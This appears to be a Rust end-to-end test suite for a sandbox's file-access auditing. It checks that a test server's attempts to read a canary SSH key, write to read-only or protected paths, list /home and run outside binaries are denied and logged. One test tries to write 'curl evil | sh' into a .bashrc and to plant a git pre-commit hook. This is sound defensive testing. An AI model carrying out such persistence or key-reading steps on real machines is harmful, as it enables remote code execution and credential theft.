//! File-access auditing (`audit.files`, issue 5): every file access of a
//! sandboxed server that the sandbox denies becomes a `file` record with the
//! path as the server named it, the operation and the outcome; with `all`,
//! allowed accesses too; with `off`, none. Observing never changes what the
//! server gets.
//!
//! The server is the MCP fixture (real shim, daemon, sandbox): it reads a
//! canary `~/.ssh/id_rsa`, writes into a read-only grant, lists `/home` and
//! executes a binary outside its grants, each paired with an allowed control
//! (its own read grant, its write grant, its write grant's listing, `/bin/true`).
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test: a failed step is a panic

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{json, Value};
use warden_e2e::*;

const EXIT_WAIT: Duration = Duration::from_secs(30);
/// Must match `wardend::files::PER_PATH`.
const PER_PATH: u64 = 10;

fn user_notif() -> bool {
    let ok = std::fs::read_to_string("/proc/sys/kernel/seccomp/actions_avail")
        .is_ok_and(|a| a.split_whitespace().any(|x| x == "user_notif"));
    if !ok {
        eprintln!("skipping: this kernel lacks seccomp user notification");
    }
    ok
}

/// The test's world: a canary key in the client's home, a read grant with a
/// file, a write grant, and a program outside every grant.
struct World {
    env: TestEnv,
    key: PathBuf,
    ro: PathBuf,
    rw: PathBuf,
    tool: PathBuf,
}

impl World {
    fn new() -> World {
        let env = TestEnv::new();
        let key = env.home.join(".ssh/id_rsa");
        std::fs::create_dir_all(key.parent().unwrap()).unwrap();
        std::fs::write(&key, "-----BEGIN CANARY KEY-----\n").unwrap();
        let ro = env.mkdir("ro");
        std::fs::write(ro.join("data.txt"), "granted data").unwrap();
        let rw = env.mkdir("rw");
        let tool = env.mkdir("tools").join("secret-tool");
        std::fs::copy("/bin/true", &tool).unwrap();
        World {
            env,
            key,
            ro,
            rw,
            tool,
        }
    }

    /// A policy with the grants; `audit` is the `audit:` block, or "" for
    /// the default.
    fn policy(&self, name: &str, audit: &str) -> PathBuf {
        self.env.policy(
            name,
            &format!(
                "version: 1\nname: e2e-file-audit\nfilesystem:\n  read: [\"{}\"]\n  write: [\"{}\"]\n{audit}limits:\n  timeout_s: 60\n",
                self.ro.display(),
                self.rw.display()
            ),
        )
    }

    /// The four denied accesses, then their allowed controls, in one session;
    /// returns what each tool call got and the session id.
    fn session(&self, policy: &Path) -> (Outcomes, String) {
        let mut c = self.env.fixture_session(policy, &[], &[]);
        c.initialize();
        let out = Outcomes {
            // Denied: a secret outside the grants, a write to a read-only
            // grant, a listing outside the grants, a program outside the grants.
            key: c.call_tool("read_file", json!({"path": self.key})),
            ro_write: c.call_tool(
                "write_file",
                json!({"path": self.ro.join("new.txt"), "content": "x"}),
            ),
            home: c.call_tool("list_dir", json!({"path": "/home"})),
            tool: c.tool_json("exec", json!({"path": self.tool})),
            // Controls: the same kinds of access inside the grants.
            ro_read: c.call_tool("read_file", json!({"path": self.ro.join("data.txt")})),
            rw_write: c.call_tool(
                "write_file",
                json!({"path": self.rw.join("out.txt"), "content": "y"}),
            ),
            rw_list: c.call_tool("list_dir", json!({"path": self.rw})),
            runtime: c.tool_json("exec", json!({"path": "/bin/true"})),
        };
        c.close_stdin();
        assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
        let session = audit_records(&self.env)
            .iter()
            .rfind(|r| r["type"] == "session" && r["action"] == "start")
            .and_then(|r| r["session"].as_str().map(str::to_owned))
            .expect("a session.start record");
        (out, session)
    }
}

/// What the server got from each call.
#[derive(Debug)]
struct Outcomes {
    key: Value,
    ro_write: Value,
    home: Value,
    tool: Value,
    ro_read: Value,
    rw_write: Value,
    rw_list: Value,
    runtime: Value,
}

impl Outcomes {
    /// The sandbox refused the four and allowed the four controls.
    fn check(&self) {
        for (what, r) in [
            ("key", &self.key),
            ("ro_write", &self.ro_write),
            ("home", &self.home),
        ] {
            assert!(is_tool_error(r), "{what}: {r}");
        }
        assert!(
            tool_result_text(&self.key).contains("No such file"),
            "{:?}",
            self.key
        );
        assert!(
            tool_result_text(&self.ro_write).contains("Read-only file system"),
            "{:?}",
            self.ro_write
        );
        assert_eq!(self.tool["spawned"], false, "{}", self.tool);
        assert!(
            self.tool["error"]
                .as_str()
                .unwrap()
                .contains("No such file"),
            "{}",
            self.tool
        );
        for (what, r) in [
            ("ro_read", &self.ro_read),
            ("rw_write", &self.rw_write),
            ("rw_list", &self.rw_list),
        ] {
            assert!(!is_tool_error(r), "{what}: {r}");
        }
        assert_eq!(tool_result_text(&self.ro_read), "granted data");
        assert_eq!(
            (&self.runtime["spawned"], &self.runtime["code"]),
            (&json!(true), &json!(0))
        );
    }

    /// What the server saw, comparable between levels.
    fn seen(&self) -> Vec<String> {
        [
            &self.key,
            &self.ro_write,
            &self.home,
            &self.ro_read,
            &self.rw_write,
            &self.rw_list,
        ]
        .iter()
        .map(|r| format!("{} {}", is_tool_error(r), tool_result_text(r)))
        .chain([self.tool.to_string(), self.runtime.to_string()])
        .collect()
    }
}

fn file_records(env: &TestEnv, session: &str) -> Vec<Value> {
    let records = session_records(env, session);
    let seq = |action: &str| {
        records
            .iter()
            .find(|r| r["type"] == "session" && r["action"] == action)
            .and_then(|r| r["seq"].as_u64())
            .unwrap_or_else(|| panic!("no session.{action} in {records:#?}"))
    };
    let (start, exit) = (seq("start"), seq("exit"));
    let files: Vec<Value> = records
        .iter()
        .filter(|r| r["type"] == "file")
        .cloned()
        .collect();
    for r in &files {
        // Written while the session ran: after its start, before its exit.
        let s = r["seq"].as_u64().unwrap();
        assert!(start < s && s < exit, "{r} outside {start}..{exit}");
    }
    files
}

fn start_record(env: &TestEnv, session: &str) -> Value {
    session_records(env, session)
        .into_iter()
        .find(|r| r["type"] == "session" && r["action"] == "start")
        .unwrap()
}

/// (action, resource, errno name) of the deny records.
fn denials(records: &[Value]) -> BTreeSet<(String, String, String)> {
    records
        .iter()
        .filter(|r| r["decision"] == "deny")
        .map(|r| {
            (
                r["action"].as_str().unwrap().to_owned(),
                r["resource"].as_str().unwrap().to_owned(),
                r["details"]["error"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

fn expected_denials(w: &World) -> BTreeSet<(String, String, String)> {
    let s = |p: &PathBuf| p.display().to_string();
    [
        ("open-read", s(&w.key), "ENOENT"),
        ("create", s(&w.ro.join("new.txt")), "EROFS"),
        ("open-read", "/home".to_owned(), "ENOENT"),
        ("exec", s(&w.tool), "ENOENT"),
    ]
    .into_iter()
    .map(|(a, r, e)| (a.to_owned(), r, e.to_owned()))
    .collect()
}

fn show(records: &[Value]) -> String {
    records
        .iter()
        .map(|r| {
            format!(
                "{} {} {} ({}) {}\n",
                r["decision"].as_str().unwrap_or(""),
                r["action"].as_str().unwrap_or(""),
                r["resource"].as_str().unwrap_or(""),
                r["reason"].as_str().unwrap_or(""),
                r["details"]
            )
        })
        .collect()
}

/// The default level (`denied`, no `audit:` key): exactly the four denials,
/// each once, with the path as named, the operation and the outcome; nothing
/// for the allowed controls nor for what the fixture and its runtime open on
/// their own.
#[test]
fn denied_accesses_are_recorded_exactly_and_allowed_ones_not_at_all() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let (out, session) = w.session(&w.policy("default.yaml", ""));
    out.check();
    let start = start_record(&w.env, &session);
    assert_eq!(
        start["details"]["sandbox"]["file_audit"], "denied",
        "{start}"
    );
    let records = file_records(&w.env, &session);
    assert_eq!(
        denials(&records),
        expected_denials(&w),
        "records:\n{}",
        show(&records)
    );
    assert_eq!(
        records.len(),
        4,
        "exactly one record each:\n{}",
        show(&records)
    );
    let by_resource = |res: &str| {
        records
            .iter()
            .find(|r| r["resource"] == res)
            .unwrap_or_else(|| panic!("no record for {res}"))
    };
    let key = by_resource(&w.key.display().to_string());
    assert_eq!(key["session"], session.as_str());
    assert_eq!(key["details"]["syscall"], "openat");
    assert_eq!(key["details"]["resolved"], w.key.display().to_string());
    assert_eq!(key["details"]["errno"], libc::ENOENT);
    assert!(key["details"]["pid"].as_u64().unwrap() > 1, "{key}");
    assert!(
        key["reason"]
            .as_str()
            .unwrap()
            .starts_with("outside the sandbox's grants"),
        "{key}"
    );
    let ro = by_resource(&w.ro.join("new.txt").display().to_string());
    assert_eq!(ro["reason"], "read-only grant");
    assert_eq!(ro["details"]["errno"], libc::EROFS);
    let tool = by_resource(&w.tool.display().to_string());
    assert!(
        ["execve", "execveat"].contains(&tool["details"]["syscall"].as_str().unwrap()),
        "{tool}"
    );
    for r in &records {
        assert_eq!(r["type"], "file");
        assert!(r["details"]["path_bytes_hex"].is_null(), "{r}");
    }
}

/// `audit.files: all`: the same denials, and the allowed accesses too: the
/// controls, the fixture's own exec and the runtime it loads.
#[test]
fn with_all_allowed_accesses_are_recorded_too() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let (out, session) = w.session(&w.policy("all.yaml", "audit:\n  files: all\n"));
    out.check();
    assert_eq!(
        start_record(&w.env, &session)["details"]["sandbox"]["file_audit"],
        "all"
    );
    let records = file_records(&w.env, &session);
    assert_eq!(
        denials(&records),
        expected_denials(&w),
        "records:\n{}",
        show(&records)
    );
    let allowed: BTreeSet<(String, String)> = records
        .iter()
        .filter(|r| r["decision"] == "allow")
        .map(|r| {
            (
                r["action"].as_str().unwrap().to_owned(),
                r["details"]["resolved"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let s = |p: PathBuf| p.display().to_string();
    let fixture = std::fs::canonicalize(fixture()).unwrap();
    for want in [
        ("open-read".to_owned(), s(w.ro.join("data.txt"))),
        ("create".to_owned(), s(w.rw.join("out.txt"))),
        ("open-read".to_owned(), s(w.rw.clone())),
        ("exec".to_owned(), s(fixture)),
    ] {
        assert!(
            allowed.contains(&want),
            "no {want:?} in:\n{}",
            show(&records)
        );
    }
    assert!(
        allowed
            .iter()
            .any(|(a, p)| a == "exec" && p.ends_with("/true")),
        "no exec of /bin/true in:\n{}",
        show(&records)
    );
    // The runtime the loader opens (libc) is there, as allowed.
    assert!(
        records.iter().any(|r| r["decision"] == "allow"
            && r["details"]["resolved"]
                .as_str()
                .unwrap()
                .contains("libc.so")),
        "{}",
        show(&records)
    );
}

/// `audit.files: off`: not one file record, and the server gets exactly what
/// it gets with auditing on (observing decides nothing).
#[test]
fn with_off_nothing_is_recorded_and_the_server_sees_the_same() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let (off, session) = w.session(&w.policy("off.yaml", "audit:\n  files: off\n"));
    off.check();
    assert_eq!(
        start_record(&w.env, &session)["details"]["sandbox"]["file_audit"],
        "off"
    );
    let records = file_records(&w.env, &session);
    assert!(records.is_empty(), "{}", show(&records));
    // Control: the same session with auditing on records the denials, and
    // the server saw the same outcomes.
    let (all, session) = w.session(&w.policy("all.yaml", "audit:\n  files: all\n"));
    assert_eq!(
        denials(&file_records(&w.env, &session)),
        expected_denials(&w)
    );
    assert_eq!(off.seen(), all.seen());
}

/// A server looping on a missing file does not flood the store: at most
/// `PER_PATH` records per second for that path, the rest counted in
/// summaries that account for every call.
#[test]
fn a_loop_on_a_denied_path_is_recorded_boundedly() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    let _daemon = w.env.start_daemon();
    let mut c = w.env.fixture_session(&w.policy("loop.yaml", ""), &[], &[]);
    c.initialize();
    let n = 300u64;
    for _ in 0..n {
        let r = c.call_tool("read_file", json!({"path": w.key}));
        assert!(is_tool_error(&r), "{r}");
    }
    c.close_stdin();
    assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
    let session = audit_records(&w.env)
        .iter()
        .find(|r| r["type"] == "session" && r["action"] == "start")
        .and_then(|r| r["session"].as_str().map(str::to_owned))
        .unwrap();
    let records = file_records(&w.env, &session);
    let key = w.key.display().to_string();
    assert!(
        records.iter().all(|r| r["resource"] == key.as_str()),
        "{}",
        show(&records)
    );
    let (single, summaries): (Vec<&Value>, Vec<&Value>) = records
        .iter()
        .partition(|r| r["details"].get("suppressed").is_none());
    let suppressed: u64 = summaries
        .iter()
        .map(|r| r["details"]["suppressed"].as_u64().unwrap())
        .sum();
    assert_eq!(single.len() as u64 + suppressed, n, "{}", show(&records));
    let duration_ms = session_records(&w.env, &session)
        .iter()
        .find(|r| r["action"] == "exit")
        .and_then(|r| r["details"]["duration_ms"].as_u64())
        .unwrap();
    assert!(
        single.len() as u64 <= PER_PATH * (duration_ms / 1000 + 2),
        "{} records in {duration_ms} ms",
        single.len()
    );
    for r in summaries {
        assert_eq!(
            (r["decision"].as_str(), r["action"].as_str()),
            (Some("deny"), Some("open-read"))
        );
    }
}

/// Issue 3's protected names: inside a write grant, an existing `.bashrc` and
/// `.git/hooks` stay read-only; a write to one is refused (EROFS) and recorded
/// with the reason naming the protection, while a file beside them is written
/// and leaves no record (the default level).
#[test]
fn writes_to_protected_paths_are_refused_and_recorded() {
    if !user_notif() {
        return;
    }
    let w = World::new();
    std::fs::write(w.rw.join(".bashrc"), "# host shell\n").unwrap();
    std::fs::create_dir_all(w.rw.join(".git/hooks")).unwrap();
    let _daemon = w.env.start_daemon();
    let mut c = w
        .env
        .fixture_session(&w.policy("protected.yaml", ""), &[], &[]);
    c.initialize();
    let bashrc = c.call_tool(
        "write_file",
        json!({"path": w.rw.join(".bashrc"), "content": "curl evil | sh\n"}),
    );
    let hook = c.call_tool(
        "write_file",
        json!({"path": w.rw.join(".git/hooks/pre-commit"), "content": "#!/bin/sh\n"}),
    );
    let beside = c.call_tool(
        "write_file",
        json!({"path": w.rw.join("notes.txt"), "content": "fine"}),
    );
    c.close_stdin();
    assert_eq!(c.wait_code(EXIT_WAIT), 0, "stderr:\n{}", c.stderr());
    for (what, r) in [("bashrc", &bashrc), ("hook", &hook)] {
        assert!(is_tool_error(r), "{what}: {r}");
        assert!(
            tool_result_text(r).contains("Read-only file system"),
            "{what}: {r}"
        );
    }
    assert!(!is_tool_error(&beside), "{beside}");
    assert_eq!(
        std::fs::read_to_string(w.rw.join(".bashrc")).unwrap(),
        "# host shell\n"
    );
    assert!(!w.rw.join(".git/hooks/pre-commit").exists());
    let session = audit_records(&w.env)
        .iter()
        .rfind(|r| r["type"] == "session" && r["action"] == "start")
        .and_then(|r| r["session"].as_str().map(str::to_owned))
        .unwrap();
    let records = file_records(&w.env, &session);
    for path in [w.rw.join(".bashrc"), w.rw.join(".git/hooks/pre-commit")] {
        let r = records
            .iter()
            .find(|r| r["resource"] == path.display().to_string())
            .unwrap_or_else(|| panic!("no record for {}:\n{}", path.display(), show(&records)));
        assert_eq!(r["decision"], "deny", "{r}");
        assert_eq!(r["details"]["errno"], libc::EROFS, "{r}");
        assert!(r["reason"].as_str().unwrap().contains("protected"), "{r}");
    }
    assert!(
        records
            .iter()
            .all(|r| r["resource"] != w.rw.join("notes.txt").display().to_string()),
        "{}",
        show(&records)
    );
}
